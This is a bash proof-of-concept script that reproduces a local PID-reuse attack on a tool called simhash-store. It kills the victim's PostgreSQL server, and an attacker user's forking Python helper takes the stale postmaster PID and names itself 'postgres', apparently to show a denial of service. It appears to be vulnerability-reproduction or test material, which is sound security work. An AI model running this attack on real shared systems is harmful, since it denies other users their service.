#!/bin/bash
# The victim's (h15alice) server dies hard (kill -9: OOM killer, a crash), leaving postmaster.pid.
# Another local user (h15mallory) forks until she gets the recorded pid, in a process named
# "postgres". Run as root.
set -u
PGDATA=/home/h15alice/.local/share/simhash-store/pgdata
su - h15alice -c "cd ~; (~/venv/bin/simhash-store serve > /dev/null 2>&1 &) ; sleep 4; ~/venv/bin/simhash-store stats | grep documents"
PID=$(head -1 $PGDATA/postmaster.pid); echo "postmaster pid $PID"
pkill -KILL -u h15alice -f 'simhash-store serve'  # the victim's own serve (by owner and name: only hers)
kill -KILL "$PID"
for i in $(seq 1 60); do [ -e "/proc/$PID" ] || break; sleep 1; done  # reaped
cat > /tmp/h15-grab.py <<'PY'
import ctypes, os, sys, time
want = int(sys.argv[1])
while True:
    child = os.fork()
    if child == 0:
        if os.getpid() == want:
            ctypes.CDLL(None).prctl(15, b"postgres", 0, 0, 0)
            time.sleep(120)
        os._exit(0)
    os.waitpid(child, 0)
    if child == want:
        break
PY
chmod 644 /tmp/h15-grab.py
su h15mallory -c "timeout 120 /usr/bin/python3 /tmp/h15-grab.py $PID &"
for i in $(seq 1 120); do [ "$(ps -o user= -p "$PID")" = h15mallory ] && break; sleep 1; done
ps -o pid,user,comm -p "$PID"
su - h15alice -c "timeout 120 ~/venv/bin/simhash-store stats 2>&1 | grep -i 'documents\|error'; echo exit \$?"
pkill -KILL -u h15mallory -f h15-grab.py; rm -f /tmp/h15-grab.py
